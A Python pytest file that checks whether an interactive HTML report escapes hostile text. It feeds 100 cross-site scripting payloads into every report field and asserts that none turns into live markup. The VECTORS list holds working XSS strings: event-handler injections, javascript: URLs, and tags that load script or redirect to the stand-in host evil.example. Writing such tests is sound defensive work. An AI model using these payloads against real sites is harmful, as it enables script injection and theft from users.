"""What a page says is text in the interactive report, whatever it says and wherever it stands."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page

from checks.report.result import Result

VECTORS = [
    "<script>pwned()</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<img src=x onerror=pwned()>",
    "<img src=//evil.example/pixel.gif>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<body onload=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:pwned()></iframe>",
    "<object data=javascript:pwned()>",
    "<embed src=javascript:pwned()>",
    "<video><source onerror=pwned()></video>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<a href=javascript:pwned()>here</a>",
    "<math><mtext><style><img src=x onerror=pwned()></style></mtext></math>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example/><button autofocus>go</button></form>",
    "<template><img src=x onerror=pwned()></template>",
    "javascript:pwned()",
]
WRAPPERS = ["{}", "</script>{}", "\"'>{}<!--", "</style></title></textarea>`${{{}}}`]]>{}\u202e\u0000"]
PAYLOADS = [wrapper.replace("{}", vector) for vector in VECTORS for wrapper in WRAPPERS]
NEVER_OURS = {
    *("script", "img", "iframe", "object", "embed", "video", "source", "math", "meta", "base", "link", "style"),
    *("form", "template", "animate", "body", "textarea"),
}
LOOK_AT_ALL = """async (views) => {
    const lines = JSON.parse(await partOf("pages"));
    const pages = lines.map((one) => "#/pages?" + new URLSearchParams({page: one.path}));
    const tags = new Set(), protocols = new Set();
    const drawn = () => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 5)));
    const all = [...views.map((one) => one.startsWith("#") ? one : "#/" + one), ...pages];
    for (const view of all) {
        location.hash = view;
        await drawn();
        await drawn();
        for (let at = 0; view.includes("workbench") && at < 200 && !document.querySelector(".bench section"); at += 1) {
            await drawn();
        }
        document.querySelectorAll("#app .tree .tree summary").forEach((summary, at) => at < 30 && summary.click());
        await drawn();
        document.querySelectorAll("#app *").forEach((one) => tags.add(one.tagName.toLowerCase()));
        document.querySelectorAll("#app a").forEach((one) => protocols.add(one.protocol));
    }
    return {views: all.length, tags: [...tags], protocols: [...protocols]};

    function partOf(name) {
        const packed = document.querySelector(`script[data-part="${name}"]`).textContent;
        const bytes = Uint8Array.from(atob(packed), (letter) => letter.charCodeAt(0));
        return new Response(new Blob([bytes]).stream().pipeThrough(new DecompressionStream("gzip"))).text();
    }
}"""
TEXTS = ("policy", "title", "message", "owner", "fix", "what", "pointer", "severity", "state")


def finding(number: int, text: str) -> dict[str, Any]:
    told = dict.fromkeys(TEXTS, text)
    known = {"fingerprint": f"v1:{number:032x}", "cause": f"c1:{number:016x}", "page": f"/{number}/{text}"}
    return {**told, **known, "reads": "page", "blocking": True, "value": text, "limit": text, "reference": [text]}


def filled(value: Any, text: str) -> Any:
    """Return a document in which every text is `text`."""
    if isinstance(value, dict):
        return {key: filled(member, text) for key, member in value.items()}
    if isinstance(value, list):
        return [filled(member, text) for member in value]
    return text if isinstance(value, str) else value


@pytest.fixture
def hostile(bakery_with: Callable[..., Result], bakery: Result, page_document: Callable[..., dict[str, Any]]) -> Result:
    findings = [finding(number, text) for number, text in enumerate(PAYLOADS)]
    pages = [
        {**filled(page_document("/"), text), "path": f"/{number}/{text}", text: text}
        for number, text in enumerate(PAYLOADS)
    ]
    by_fingerprint = {one["fingerprint"]: text for one, text in zip(findings, PAYLOADS, strict=True)}
    coverage = [{"kind": "page", "state": "failed", "path": text, "why": text, "owner": text} for text in PAYLOADS]
    owner = next(iter(bakery.verdict["owners"].values()))
    signed = [{"outcome": "applied", "by": [text], "reason": text, "id": text} for text in PAYLOADS]
    told = {
        "owners": dict.fromkeys(PAYLOADS, owner),
        "reasons": PAYLOADS,
        "notes": PAYLOADS,
        "sign_offs": signed,
        "site": PAYLOADS[0],
        "offer": {"head": [], "lines": PAYLOADS, "foot": []},
    }
    bots = [{"token": text, "class": text, "allowed": True, "wanted": text} for text in PAYLOADS]
    return bakery_with(
        findings=lambda: iter(findings),
        pages=lambda: iter(pages),
        coverage=lambda: iter(coverage),
        verdict={**bakery.verdict, **told},
        policies={text: {"description": text} for text in PAYLOADS},
        site={"ai": {"bots": bots}, "config": {"host": PAYLOADS[1]}},
        snippets=lambda key: {"line": 1, "column": 1, "text": by_fingerprint.get(key, "")},
        sources=lambda key: {"file": by_fingerprint.get(key, ""), "line": 1},
        folder=PAYLOADS[2],
    )


def test_there_are_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 100


def test_no_payload_in_any_field_runs_or_becomes_markup(hostile: Result, opened: Callable[..., Page]) -> None:
    page = opened(hostile, "#/pages")
    page.evaluate("() => { window.pwned = () => alert('pwned'); }")
    page.wait_for_selector(".page-line")
    causes = [f"#/findings?cause=c1-{number:016x}" for number in range(len(PAYLOADS))]
    bench = ["workbench?fact=title.text", "workbench?do=threshold", "workbench?do=sign-off"]
    seen = page.evaluate(LOOK_AT_ALL, ["overview", "findings", "map", "figures", "ledgers", *bench, *causes])
    assert seen["views"] > 2 * len(PAYLOADS)
    assert "fieldset" in seen["tags"]
    assert not set(seen["tags"]) & NEVER_OURS
    assert set(seen["protocols"]) <= {"file:", "https:"}
